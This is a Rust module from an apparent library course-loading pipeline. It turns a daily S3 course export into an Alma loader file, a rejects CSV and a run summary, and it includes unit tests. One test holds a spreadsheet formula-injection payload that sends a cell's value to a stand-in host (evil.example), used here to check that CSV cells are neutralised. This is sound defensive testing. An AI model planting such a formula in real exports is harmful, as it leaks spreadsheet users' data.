//! Transform the export: the day's CEM export from S3 → Alma's course loader file
//! (`alma/…/YYYYMMDDHHMMSS.txt`, named now in the library's time zone), the rejects CSV and
//! the run summary (`reports/…/run-summary.json`, which a rerun's plan reads back). The
//! delete guard asks Alma. A fatal input error is `InvalidInput` and nothing is written.

use std::collections::BTreeSet;
use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;

use chrono::{DateTime, Datelike, NaiveDate, Utc};
use chrono_tz::Tz;
use serde::{Deserialize, Serialize};

use super::resume::{self, PushSide, Resumable};
use super::{RunInfo, StepContext, StepError};
use crate::alma::CourseCache;
use crate::domain::delta::{self, Changed, Load, LoadKind};
use crate::domain::loader::loader_file_name;
use crate::domain::run::{write_course_rows, Scan};
use crate::domain::{scan, RowReject, Rules, RunSummary, TermMissing};
use crate::pipeline;
use crate::run::alma_rate::AlmaCaller;
use crate::run::baseline::{self, LoadPlan};
use crate::run::brake;
use crate::run::full_load::FollowedRequest;
use crate::run::limits::{self, capped};
use crate::run::outputs::PullOutput;
use crate::run::summary::{nearest_years, TransformCounts, TransformOutput, MORE_WARNINGS};
use crate::store::{content_type, file_name, file_stamp, DayKeys};

/// Where the warnings left out of the state are.

#[derive(Debug, Clone, Deserialize)]
pub struct TransformInput {
    pub run: RunInfo,
    #[serde(default)]
    pub pull: Option<PullOutput>,
}

fn joined<T: ToString>(items: &[T]) -> String {
    items
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join(", ")
}

/// `reports/…/run-summary.json`: the step's output plus everything the run counted.
#[derive(Debug, Serialize)]
struct SummaryDocument<'a> {
    #[serde(flatten)]
    output: &'a TransformOutput,
    run_date: String,
    export_key: &'a str,
    made_at: DateTime<Utc>,
    details: &'a RunSummary,
}

/// The years of Alma courses the rollover report needs: every copy request's year, and the
/// course's own year where a DELETE row came first (the delete guard places those).
pub fn years_needed(found: &Scan, rules: &Rules) -> (Vec<i32>, Vec<String>) {
    let mut years = BTreeSet::new();
    let mut odd = Vec::new();
    let wanted = found.rollover_years(rules).into_iter().chain(
        found
            .copy_candidates
            .iter()
            .filter(|c| c.delete_first && !c.copy_year.is_empty())
            .map(|c| c.year.clone()),
    );
    for year in wanted {
        match year.trim().parse::<i32>() {
            Ok(y) => {
                years.insert(y);
            }
            Err(_) => odd.push(year),
        }
    }
    (years.into_iter().collect(), odd)
}

/// The rejects file: `line,course_code,column,reason`. People open it in a spreadsheet, so
/// every cell is neutralised ([`crate::csv_safe`]): export values that look like formulas stay text.
pub fn rejects_csv(rejects: &[RowReject]) -> Result<Vec<u8>, StepError> {
    let fail = |e: csv::Error| StepError::OutputFailed(std::io::Error::other(e));
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["line", "course_code", "column", "reason"])
        .map_err(fail)?;
    for r in rejects {
        let line = r.line.to_string();
        let cells = [
            line.as_str(),
            &r.course_code,
            r.column.unwrap_or_default(),
            &r.reason,
        ];
        crate::csv_safe::write_record(&mut w, &cells).map_err(fail)?;
    }
    w.into_inner()
        .map_err(|e| StepError::OutputFailed(std::io::Error::other(e.to_string())))
}

/// The export to read: the pull's, else the day's latest in `cem/`. A dry run without an
/// export of its own reads the live one (reading is harmless; it never writes there).
pub(crate) async fn export_key(
    ctx: &StepContext,
    day: &DayKeys,
    pull: Option<&PullOutput>,
) -> Result<String, StepError> {
    if let Some(pull) = pull {
        return Ok(pull.export_key.clone());
    }
    let prefix = day.cem_prefix();
    if let Some(key) = ctx.store.latest(&prefix).await? {
        return Ok(key);
    }
    if day.is_dry_run() {
        if let Some(key) = ctx.store.latest(&day.live().cem_prefix()).await? {
            return Ok(key);
        }
    }
    Err(crate::store::StoreError::NotFound {
        bucket: ctx.store.bucket().to_string(),
        key: format!("{prefix}leganto_export_*"),
    }
    .into())
}

/// The export at `key`, streamed from S3 into an unnamed file in /tmp: the passes read it
/// from there, so the export is never held in memory (a 1,000,000-row day and its loader
/// file take about 270 MB of Lambda's default 512 MB of /tmp).
pub(crate) async fn spool_export(ctx: &StepContext, key: &str) -> Result<File, StepError> {
    let mut file = tempfile::tempfile().map_err(StepError::OutputFailed)?;
    ctx.store.download(key, &mut file).await?;
    Ok(file)
}

/// The transform, or `"more": true` when its time ran out before the delete checks were
/// all made (see [`resume`]).
pub async fn run(
    ctx: &StepContext,
    input: TransformInput,
) -> Result<Resumable<TransformOutput>, StepError> {
    let day = input.run.day();
    let export_key = export_key(ctx, &day, input.pull.as_ref()).await?;
    let mut reader = spool_export(ctx, &export_key).await?;
    let (rules, rules_version) = ctx.rules().await?;
    let cache =
        resume::resumable_cache(ctx, &day, PushSide::BeforePush, AlmaCaller::Alone, None).await?;
    let today = TodaysCourses::read(ctx, &input.run, &mut reader, &rules).await?;
    let changed = today.changed.as_ref();
    let pass = match write_loader_file(ctx, &day, &mut reader, &rules, &cache, changed).await? {
        Resumable::Done(pass) => pass,
        Resumable::More(more) => return Ok(Resumable::More(more)),
    };
    let load = today.load(pass.summary.rows_in_file);
    let made_at = ctx.now();
    let checked_at = checks_made_at(&cache, made_at);
    let local = made_at.with_timezone(&ctx.config.time_zone);
    let missing = terms_missing(&rules, input.run.run_date, &pass.summary);
    let mut output = transform_output(ctx, &input.run, &day, &pass, load, &local, &missing).await?;
    output.rules = Some(rules_version);
    output.full_load_request = today.requested.clone();
    let document = SummaryDocument {
        output: &output,
        run_date: input.run.run_date.to_string(),
        export_key: &export_key,
        made_at: checked_at,
        details: &pass.summary,
    };
    save_outputs(ctx, &day, pass.loader.path(), &today.rows, &document).await?;
    log_transformed(&export_key, &output, &pass.summary, &local);
    Ok(Resumable::Done(output))
}

/// The day's course rows (§8): compared with the baseline, and the next baseline.
struct TodaysCourses {
    rows: Vec<u8>,
    courses: u64,
    /// The courses changed since the last loaded day, for a delta.
    changed: Option<Changed>,
    /// Why the file is full.
    reason: Option<String>,
    /// A delta's baseline: the run date of the last loaded day.
    since: Option<NaiveDate>,
    /// The request for a full load the file follows.
    requested: Option<FollowedRequest>,
}

impl TodaysCourses {
    async fn read(
        ctx: &StepContext,
        run: &RunInfo,
        reader: &mut File,
        rules: &Rules,
    ) -> Result<TodaysCourses, StepError> {
        let mut course_rows = Vec::new();
        let courses = write_course_rows(reader, rules, &mut course_rows)
            .map_err(pipeline::PipelineError::Run)?;
        let mut today = TodaysCourses {
            rows: Vec::new(),
            courses,
            changed: None,
            reason: None,
            since: None,
            requested: None,
        };
        match baseline::plan(&ctx.store, &ctx.config.full_load, run).await? {
            LoadPlan::Delta { baseline, loaded } => {
                let changed = Changed::between(&course_rows, &baseline);
                tracing::info!(
                    baseline = %loaded,
                    baseline_courses = baseline.len(),
                    changed = changed.len(),
                    "a delta against the last loaded day"
                );
                today.changed = Some(changed);
                today.since = Some(loaded);
            }
            LoadPlan::Full { reason, requested } => {
                today.reason = Some(reason);
                today.requested = requested;
            }
        }
        today.rows = course_rows;
        Ok(today)
    }

    /// What the loader file holds: a delta or the full day, and how many rows.
    fn load(&self, rows_in_file: u64) -> Load {
        Load {
            kind: if self.changed.is_some() {
                LoadKind::Delta
            } else {
                LoadKind::Full
            },
            courses: self.courses,
            changed: rows_in_file,
            reason: self.reason.clone(),
            since: self.since,
        }
    }
}

/// The loader file written to /tmp, with what the passes over the export counted.
struct LoaderPass {
    loader: tempfile::NamedTempFile,
    summary: RunSummary,
    /// The copy years to cache, and those that are not years.
    years_needed: Vec<i32>,
    odd_years: Vec<String>,
}

/// Scans the export once, then writes the loader file, asking Alma what the delete guard
/// needs; `"more"` when the invocation's time ran out first.
async fn write_loader_file(
    ctx: &StepContext,
    day: &DayKeys,
    reader: &mut File,
    rules: &Rules,
    cache: &CourseCache,
    changed: Option<&Changed>,
) -> Result<Resumable<LoaderPass>, StepError> {
    // Pass 1, once: what the delete guard must ask, and the copy years to cache.
    let started = std::time::Instant::now();
    let found = scan(reader, rules).map_err(|e| pipeline::PipelineError::Run(e.into()))?;
    let (years_needed, odd_years) = years_needed(&found, rules);
    // The loader file is as large as the export: written to /tmp, uploaded from there.
    let loader = tempfile::NamedTempFile::new().map_err(StepError::OutputFailed)?;
    let summary = {
        let mut out = BufWriter::with_capacity(256 * 1024, loader.as_file());
        let work = pipeline::transform_scanned_with_alma(
            reader, rules, cache, found, changed, &mut out, started,
        );
        let summary = match resume::drive(ctx, day, PushSide::BeforePush, cache, work).await? {
            Resumable::Done(summary) => summary,
            Resumable::More(more) => return Ok(Resumable::More(more)),
        };
        out.flush().map_err(StepError::OutputFailed)?;
        summary
    };
    Ok(Resumable::Done(LoaderPass {
        loader,
        summary,
        years_needed,
        odd_years,
    }))
}

/// The delete checks are as old as the oldest saved answer they used: Push's fresh guard
/// reads this.
fn checks_made_at(cache: &CourseCache, made_at: DateTime<Utc>) -> DateTime<Utc> {
    cache
        .oldest_seed()
        .map_or(made_at, |oldest| oldest.min(made_at))
}

/// The expected terms starting soon that the export holds no row of (§9), each logged: a
/// warning, never a reason to stop.
fn terms_missing(rules: &Rules, run_date: NaiveDate, summary: &RunSummary) -> Vec<TermMissing> {
    let missing = rules.export().terms_missing(run_date, &summary.terms_seen);
    for m in &missing {
        tracing::warn!(term = %m.term, year = %m.year, starts = %m.starts, "{m}");
    }
    missing
}

/// The step's output: the loader file named `local` (now in the library's time zone), the
/// copy years to cache, the day's warnings (the terms missing first) and counts, and the
/// brake's verdict.
async fn transform_output(
    ctx: &StepContext,
    run: &RunInfo,
    day: &DayKeys,
    pass: &LoaderPass,
    load: Load,
    local: &DateTime<Tz>,
    missing: &[TermMissing],
) -> Result<TransformOutput, StepError> {
    let (years_needed, far_years) =
        nearest_years(&pass.years_needed, run.run_date.year(), limits::YEARS);
    let loader_file_name = loader_file_name(local);
    let loader_key = format!("{}{loader_file_name}", day.alma_prefix());
    debug_assert_eq!(loader_key, day.alma_loader_file(local.naive_local()));
    let warnings = day_warnings(missing, &far_years, &pass.odd_years, &pass.summary);
    let counts = TransformCounts {
        terms_missing: missing.len() as u64,
        ..TransformCounts::from_summary(&pass.summary)
    };
    let brake = brake::assess(&ctx.store, run.run_date, &counts, &ctx.config.brake).await?;
    Ok(TransformOutput {
        loader_key,
        loader_file_name,
        summary_key: day.run_summary(),
        rejects_key: day.rejects(),
        counts,
        warnings: capped(warnings, limits::LIST_ITEMS, MORE_WARNINGS),
        years_needed,
        brake,
        load: Some(load),
        rules: None,
        full_load_request: None,
    })
}

/// The day's own notes first: they are few, and a day of many row warnings would push
/// them past the cap. The terms missing lead: the day's account reads them from there
/// (`counts.terms_missing` of them).
fn day_warnings(
    missing: &[TermMissing],
    far_years: &[i32],
    odd_years: &[String],
    summary: &RunSummary,
) -> Vec<String> {
    let mut warnings: Vec<String> = missing.iter().map(ToString::to_string).collect();
    if !far_years.is_empty() {
        // The Map caches one year per item and keeps every item's answer in the state.
        warnings.push(format!(
            "{} copy years are not cached ahead ({}); the rollover report fetches them itself",
            far_years.len(),
            joined(far_years)
        ));
    }
    if !odd_years.is_empty() {
        warnings.push(format!(
            "{} copy years are not years ({}); no rollover check for them",
            odd_years.len(),
            joined(
                &odd_years
                    .iter()
                    .map(|y| format!("{y:?}"))
                    .collect::<Vec<_>>()
            )
        ));
    }
    warnings.extend(summary.warnings.iter().map(|w| w.to_string()));
    warnings
}

/// Writes the loader file, the day's course rows (the next baseline), the rejects and,
/// last, the run summary.
async fn save_outputs(
    ctx: &StepContext,
    day: &DayKeys,
    loader: &Path,
    course_rows: &[u8],
    document: &SummaryDocument<'_>,
) -> Result<(), StepError> {
    let output = document.output;
    ctx.store
        .put_file(&output.loader_key, loader, content_type::TEXT)
        .await?;
    ctx.store
        .put(
            &day.course_rows(),
            delta::gzip(course_rows).map_err(StepError::OutputFailed)?,
            content_type::GZIP,
        )
        .await?;
    ctx.store
        .put(
            &output.rejects_key,
            rejects_csv(&document.details.rejects)?,
            content_type::CSV,
        )
        .await?;
    // Last: a rerun's plan takes the summary as proof the stage finished.
    ctx.store.put_json(&output.summary_key, document).await?;
    Ok(())
}

fn log_transformed(
    export_key: &str,
    output: &TransformOutput,
    summary: &RunSummary,
    local: &DateTime<Tz>,
) {
    tracing::info!(
        export = file_name(export_key),
        loader_key = %output.loader_key,
        rows_read = summary.rows_read,
        courses_written = summary.courses_written,
        rows_in_file = summary.rows_in_file,
        load = %output.load.as_ref().map(ToString::to_string).unwrap_or_default(),
        rejected = summary.rows_rejected,
        warnings = summary.warnings.len(),
        alma_calls = summary.alma_calls,
        brake_tripped = output.brake.tripped,
        stamp = %file_stamp(local.naive_local()),
        "transformed the export"
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rejects_csv_names_line_code_column_and_reason() {
        let csv = rejects_csv(&[RowReject {
            line: 7,
            course_code: "2026Fall-X-ENG101-1".into(),
            column: Some("section"),
            reason: "not a number, \"x\"".into(),
        }])
        .unwrap();
        let text = String::from_utf8(csv).unwrap();
        assert_eq!(
            text,
            "line,course_code,column,reason\n7,2026Fall-X-ENG101-1,section,\"not a number, \"\"x\"\"\"\n"
        );
    }

    #[test]
    fn rejects_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
        let csv = rejects_csv(&[RowReject {
            line: 9,
            course_code: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into(),
            column: Some("term"),
            reason: "-empty term".into(),
        }])
        .unwrap();
        let text = String::from_utf8(csv).unwrap();
        assert_eq!(
            text,
            "line,course_code,column,reason\n\
             9,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",term,'-empty term\n"
        );
    }

    #[test]
    fn the_years_nearest_the_run_are_cached_ahead() {
        let years = [1, 2020, 2025, 2026, 2027, 99999];
        assert_eq!(
            nearest_years(&years, 2026, 3),
            (vec![2025, 2026, 2027], vec![1, 2020, 99999])
        );
        assert_eq!(nearest_years(&years, 2026, 10).0, years.to_vec());
        assert_eq!(nearest_years(&[], 2026, 3), (vec![], vec![]));
    }

    #[test]
    fn a_recalled_summary_is_bounded_again() {
        let output = TransformOutput {
            loader_key: "alma/2026/11/28/20261128092514.txt".into(),
            loader_file_name: "20261128092514.txt".into(),
            summary_key: "reports/2026/11/28/run-summary.json".into(),
            rejects_key: "reports/2026/11/28/rejects.csv".into(),
            counts: TransformCounts::default(),
            warnings: vec!["w".repeat(10_000); 10_000],
            years_needed: (0..10_000).collect(),
            brake: crate::run::summary::Brake {
                tripped: true,
                reasons: vec!["r".repeat(10_000); 100],
                compared_with: None,
                history_days: 0,
            },
            load: Some(Load {
                kind: LoadKind::Full,
                courses: 1,
                changed: 1,
                reason: Some("r".repeat(100)),
                since: None,
            }),
            rules: None,
            full_load_request: None,
        }
        .bounded(2026);
        assert_eq!(output.warnings.len(), limits::LIST_ITEMS + 1);
        assert!(output
            .warnings
            .iter()
            .all(|w| w.len() <= limits::LINE_BYTES));
        assert!(output.warnings[limits::LIST_ITEMS].contains("9975 more"));
        assert_eq!(output.years_needed.len(), limits::YEARS);
        let json = serde_json::to_string(&output).unwrap();
        assert!(json.len() < limits::STEP_OUTPUT_BUDGET, "{}", json.len());
        // Bounding what is already bounded changes nothing.
        assert_eq!(output.clone().bounded(2026), output);
    }

    #[test]
    fn counts_are_labelled_in_a_fixed_order() {
        let counts = TransformCounts {
            rows_read: 3,
            ..TransformCounts::default()
        };
        assert_eq!(counts.labelled()[0], ("Rows read", 3));
        assert_eq!(counts.labelled().len(), 8);
    }
}
